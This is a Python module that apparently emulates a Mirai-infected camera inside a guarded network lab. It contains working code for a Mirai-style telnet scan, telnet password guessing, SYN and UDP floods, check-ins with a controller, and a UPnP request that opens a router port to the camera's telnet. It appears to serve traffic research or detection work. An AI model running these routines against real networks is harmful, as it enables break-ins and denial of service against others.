"""What the camera does once it is a bot: scan, guess passwords, flood; call its controller and have a port opened.

    python -m lab.bot --state FILE scan | guess HOST | synflood HOST | udpflood HOST | call | map

Runs only inside the lab (see `guard`).

Prints one JSON line: what it did, when it began and ended (s, UTC), how many packets or attempts.
"""

import argparse
import json
import random
import socket
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

from lab import igd, packets, plan
from lab.guard import Permit, obtain
from lab.telnet import attempt

SCAN_TARGETS: Final = 1_320
SCAN_RATE: Final = 120.0
SYN_PACKETS: Final = 3_000
SYN_RATE: Final = 400.0
UDP_PACKETS: Final = 2_100
UDP_RATE: Final = 350.0
UDP_PAYLOAD: Final = 32
GUESS_PAUSE: Final = 0.25  # s between two connections
PINGS: Final = 9
PING_EVERY: Final = 5.0  # s between two signs of life; Mirai's are a minute apart
SETTLE: Final = 1.0  # s for the last answers to arrive: they belong to the phase

HOSTS: Final = {"call": plan.CNC_IP, "map": plan.GATEWAY_IP}

Sender = Callable[[str, bytes], None]


def scan(permit: Permit, seed: int = 1) -> int:
    """Look for telnet servers the way Mirai does: one source port, every tenth SYN to 2323, its mark in each."""
    choice = random.Random(seed)
    send = _sender(permit)
    targets = scan_targets(choice)
    port = choice.randrange(1024, 65536)
    for i in permit.paced(len(targets), SCAN_RATE):
        packet = packets.syn(
            permit.source,
            targets[i],
            src_port=port,
            dst_port=2323 if i % 10 == 0 else 23,
            seq=packets.address_value(targets[i]),
            window=choice.getrandbits(16),
            ip_id=choice.getrandbits(16),
        )
        send(targets[i], packet)
    return len(targets)


def scan_targets(choice: random.Random) -> list[str]:
    """`SCAN_TARGETS` different addresses of the scanned range, the telnet servers among them, in random order."""
    others = [str(host) for host in plan.SCANNED if str(host) not in plan.TELNET_HOSTS]
    targets = choice.sample(others, SCAN_TARGETS - len(plan.TELNET_HOSTS))
    for host in plan.TELNET_HOSTS:
        at = choice.randrange(len(targets))
        targets.insert(at + (at % 10 == 0), host)  # not at a tenth place, which is probed on 2323
    return targets


def guess(permit: Permit, host: str) -> int:
    """Try one made-up password after another on a telnet server, one connection each, until one is right."""
    permit.check(host)
    tries = [*plan.GUESSES, plan.DVR_LOGIN] if host == plan.DVR.ip else list(plan.GUESSES)
    for done, (user, password) in enumerate(tries, 1):
        if attempt(host, user, password):
            return done
        time.sleep(GUESS_PAUSE)
    return len(tries)


def synflood(permit: Permit, host: str, seed: int = 2) -> int:
    """Connection requests to a web server, from random ports, never completed."""
    choice = random.Random(seed)
    send = _sender(permit)
    for _ in permit.paced(SYN_PACKETS, SYN_RATE):
        packet = packets.syn(
            permit.source,
            host,
            src_port=choice.randrange(1024, 65536),
            dst_port=80,
            seq=choice.getrandbits(32),
            window=choice.getrandbits(16),
            ip_id=choice.getrandbits(16),
        )
        send(host, packet)
    return SYN_PACKETS


def udpflood(permit: Permit, host: str, seed: int = 3) -> int:
    """Small packets of random bytes between random ports."""
    choice = random.Random(seed)
    send = _sender(permit)
    for _ in permit.paced(UDP_PACKETS, UDP_RATE):
        packet = packets.datagram(
            permit.source,
            host,
            src_port=choice.randrange(1024, 65536),
            dst_port=choice.randrange(1024, 65536),
            payload=choice.randbytes(UDP_PAYLOAD),
            ip_id=choice.getrandbits(16),
        )
        send(host, packet)
    return UDP_PACKETS


def call(permit: Permit, host: str) -> int:
    """Register with the controller and send signs of life, as Mirai does: four bytes and a name, then two bytes."""
    with socket.create_connection((permit.check(host), plan.CNC_PORT), timeout=10) as link:
        link.sendall(b"\x00\x00\x00\x01" + b"\x08lab.arm7")
        link.recv(64)
        for _ in permit.paced(PINGS, 1 / PING_EVERY):
            link.sendall(b"\x00\x00")
            link.recv(64)
    return PINGS


def open_port(permit: Permit, host: str) -> int:
    """Have the router open a port that leads to the camera's telnet."""
    base = f"http://{permit.check(host)}:{igd.PORT}"
    curl = ["curl", "--silent", "--max-time", "5", "--output", "/dev/null"]
    subprocess.run([*curl, base + "/rootDesc.xml"], check=True)
    headers = ["--header", 'Content-Type: text/xml; charset="utf-8"']
    headers += ["--header", f'SOAPAction: "{igd.SERVICE}#AddPortMapping"']
    body = igd.request(permit.source, 23, plan.MAPPED_PORT)
    subprocess.run([*curl, *headers, "--data-binary", "@-", base + igd.CONTROL], input=body, text=True, check=True)
    return 1


def _sender(permit: Permit) -> Sender:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(target: str, packet: bytes) -> None:
        raw.sendto(packet, (permit.check(target), 0))

    return send


def main() -> None:
    parser = argparse.ArgumentParser(description="Emulates a bot, inside the lab of record.py only.")
    parser.add_argument("--state", type=Path, required=True, help="the file in which the lab notes its namespaces")
    parser.add_argument("phase", choices=["scan", "guess", "synflood", "udpflood", "call", "map"])
    parser.add_argument("host", nargs="?")
    arguments = parser.parse_args()
    permit = obtain(arguments.state)
    host = permit.check(arguments.host or HOSTS.get(arguments.phase, plan.VICTIM_IP))
    actions: dict[str, Callable[[], int]] = {
        "scan": lambda: scan(permit),
        "guess": lambda: guess(permit, host),
        "synflood": lambda: synflood(permit, host),
        "udpflood": lambda: udpflood(permit, host),
        "call": lambda: call(permit, host),
        "map": lambda: open_port(permit, host),
    }
    done: dict[str, Any] = {"phase": arguments.phase, "start": time.time()}
    done["count"] = actions[arguments.phase]()
    time.sleep(SETTLE)
    done["end"] = time.time()
    print(json.dumps(done), flush=True)


if __name__ == "__main__":
    main()
